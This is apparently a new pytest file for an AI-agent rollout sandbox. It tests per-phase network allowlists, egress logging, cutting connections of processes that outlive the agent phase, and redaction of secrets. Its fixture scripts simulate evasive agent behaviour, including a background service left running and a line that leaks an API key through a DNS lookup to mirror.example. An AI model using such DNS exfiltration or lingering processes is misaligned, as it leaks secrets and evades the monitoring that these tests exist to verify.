@@ -1,0 +1,166 @@
+"""Phases of an attempt: users, network policies, what is visible, and what each leaves behind."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from coldframe.rollouts import phases
+from coldframe.trajectories.phases import PhaseRecord
+from coldframe.trajectories.schema import Trajectory
+from tests.fixtures.egress import OTHER, WEB, Internet, hello
+from tests.integration.rollouts.conftest import RunAttempt
+from tests.unit.rollouts.tasks import BASE, write_task
+
+pytestmark = pytest.mark.root
+REWARD = "/logs/verifier/reward.txt"
+TRY = (
+    "import socket, sys\n"
+    "def reach(address):\n"
+    "    try:\n"
+    "        with socket.create_connection((address, 7), timeout=5) as c:\n"
+    "            return c.recv(6) == b'hello\\n'\n"
+    "    except OSError:\n"
+    "        return False\n"
+)
+
+
+def network_task(root: Path, *, agent: str = "", verifier: str = "", **files: str) -> Path:
+    toml = BASE + f"[agent]\n{agent}\n[verifier]\n{verifier}\n"
+    return write_task(root, toml=toml, **files)
+
+
+def phase(trajectory: Trajectory, name: str) -> PhaseRecord:
+    (found,) = [one for one in trajectory.phases if one.name == name]
+    return found
+
+
+async def test_phases_have_a_policy_each_and_their_decisions_are_in_the_record(
+    internet: Internet, run_attempt: RunAttempt, tmp_path: Path
+) -> None:
+    """An agent that looks for the answer outside is seen doing it; a verifier has its own way."""
+    await internet.serve(WEB, 7, hello)
+    await internet.serve(OTHER, 7, hello)
+    seen = f"print(reach('{WEB}'), reach('{OTHER}'))\n"
+    directory = network_task(
+        tmp_path,
+        agent=f'user = "nobody"\nnetwork_mode = "allowlist"\nallowed_hosts = ["{WEB}"]',
+        verifier=f'network_mode = "allowlist"\nallowed_hosts = ["{OTHER}"]',
+        solution__solve_sh=f"#!/usr/bin/python3\n{TRY}open('/tmp/agent', 'w').write("
+        f"f\"{{reach('{WEB}')}} {{reach('{OTHER}')}}\")\n",
+        tests__test_sh=f"#!/usr/bin/python3\n{TRY}{seen}"
+        f"ok = (reach('{WEB}'), reach('{OTHER}')) == (False, True)\n"
+        "ok = ok and open('/tmp/agent').read() == 'True False'\n"
+        f"open('{REWARD}', 'w').write(str(int(ok)))\n",
+    )
+    trajectory = await run_attempt(directory)
+
+    assert trajectory.rewards == {"reward": 1.0}, trajectory.failure
+    start, agent, verify = trajectory.phases
+    assert (start.name, start.network) == ("start", ())
+    assert (agent.user, agent.network, agent.visible) == ("nobody", (WEB,), ())
+    assert (verify.user, verify.network) == ("0", (OTHER,))
+    assert verify.visible == ("/tests", "/logs/verifier")
+    assert start.ended_at <= agent.started_at <= agent.ended_at <= verify.started_at
+    counts = agent.egress.counts
+    assert (counts["tcp.allowed"], counts["tcp.refused"]) == (1, 1)
+    refused = [one for one in agent.egress.events if one.decision == "refused"]
+    assert [(one.address, one.port, one.step) for one in refused] == [(OTHER, 7, 0)]
+    ways = [one for one in verify.egress.events if one.kind == "tcp"]
+    allowed = [one for one in ways if one.decision == "allowed"]
+    assert {one.address for one in allowed} == {OTHER}
+    assert {one.step for one in verify.egress.events} == {None}
+
+
+async def test_change_of_phase_cuts_the_connections_of_what_lives_on(
+    internet: Internet, run_attempt: RunAttempt, tmp_path: Path
+) -> None:
+    """A service may survive its agent; its way out must not."""
+    await internet.serve(WEB, 7, hello)
+    service = (
+        f"{TRY}import time\nc = socket.create_connection(('{WEB}', 7)); c.recv(6)\n"
+        "open('/tmp/up', 'w').close()\n"
+        "try:\n    got = c.recv(1)\nexcept OSError:\n    got = b''\n"
+        f"open('/tmp/cut', 'w').write(f\"{{got}} {{reach('{WEB}')}}\"); time.sleep(1000)\n"
+    )
+    directory = network_task(
+        tmp_path,
+        agent=f'network_mode = "allowlist"\nallowed_hosts = ["{WEB}"]',
+        solution__solve_sh="#!/bin/sh\npython3 /solution/service.py > /dev/null 2>&1 &\n"
+        "until [ -e /tmp/up ]; do sleep 0.01; done\n",
+        solution__service_py=service,
+        tests__test_sh="#!/bin/sh\nfor i in $(seq 500); do [ -s /tmp/cut ] && break; sleep 0.01; "
+        f'done\n[ "$(cat /tmp/cut)" = "b\'\' False" ] && echo 1 > {REWARD}\n',
+    )
+    (directory / "solution" / "service_py").rename(directory / "solution" / "service.py")
+    trajectory = await run_attempt(directory)
+
+    assert trajectory.rewards == {"reward": 1.0}, trajectory.failure
+    agent, verify = phase(trajectory, "agent"), phase(trajectory, "verify")
+    assert [one.name for one in agent.survivors] == ["python3"]
+    assert [one.name for one in verify.killed] == ["python3"]
+    every = [*agent.egress.events, *verify.egress.events]
+    assert "cut" in {one.decision for one in every}
+
+
+async def test_decisions_beyond_the_bound_are_counted_and_said_to_be_left_out(
+    internet: Internet,
+    run_attempt: RunAttempt,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A scan of a whole network must not make a record that nobody can load."""
+    monkeypatch.setattr(phases, "MAX_EVENTS", 10)
+    monkeypatch.setattr(phases, "PAGE", 7)
+    directory = network_task(
+        tmp_path,
+        agent=f'network_mode = "allowlist"\nallowed_hosts = ["{WEB}"]',
+        solution__solve_sh=f"#!/usr/bin/python3\n{TRY}for i in range(50):\n    reach('{OTHER}')\n",
+    )
+    trajectory = await run_attempt(directory)
+
+    egress = phase(trajectory, "agent").egress
+    refused = egress.counts["tcp.refused"]
+    assert refused == 50
+    assert len(egress.events) == 10
+    assert egress.left_out == sum(egress.counts.values()) - 10
+    assert egress.lost == 0
+
+
+async def test_secret_in_a_name_that_was_asked_for_is_not_in_the_record(
+    internet: Internet, run_attempt: RunAttempt, tmp_path: Path
+) -> None:
+    """Names are the agent's words, and may carry what it should not have told."""
+    toml = BASE + (
+        'env = { API_KEY = "tell-nobody-1" }\n'
+        '[agent]\nnetwork_mode = "allowlist"\nallowed_hosts = ["mirror.example"]\n'
+    )
+    directory = write_task(
+        tmp_path,
+        toml=toml,
+        solution__solve_sh="#!/bin/sh\ngetent hosts $API_KEY.mirror.example\nexit 0\n",
+    )
+    trajectory = await run_attempt(directory)
+
+    asked = [one.name for one in phase(trajectory, "agent").egress.events if one.kind == "dns"]
+    assert "[redacted].mirror.example" in asked
+    assert "tell-nobody-1" not in trajectory.model_dump_json()
+
+
+async def test_policy_of_a_phase_that_cannot_be_enforced_fails_by_name(
+    run_attempt: RunAttempt, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Graded without what its author gave it, a task would teach the wrong thing."""
+    from coldframe.host.egress.steering import Steering
+
+    def refuse(self: Steering, *args: object) -> None:
+        raise OSError(1, "Operation not permitted")
+
+    monkeypatch.setattr(Steering, "attach", refuse)
+    directory = network_task(tmp_path, verifier='network_mode = "public"')
+    trajectory = await run_attempt(directory)
+
+    assert trajectory.rewards is None
+    assert trajectory.failure and trajectory.failure.code == "capability_missing"
+    assert trajectory.failure.phase == "verify"
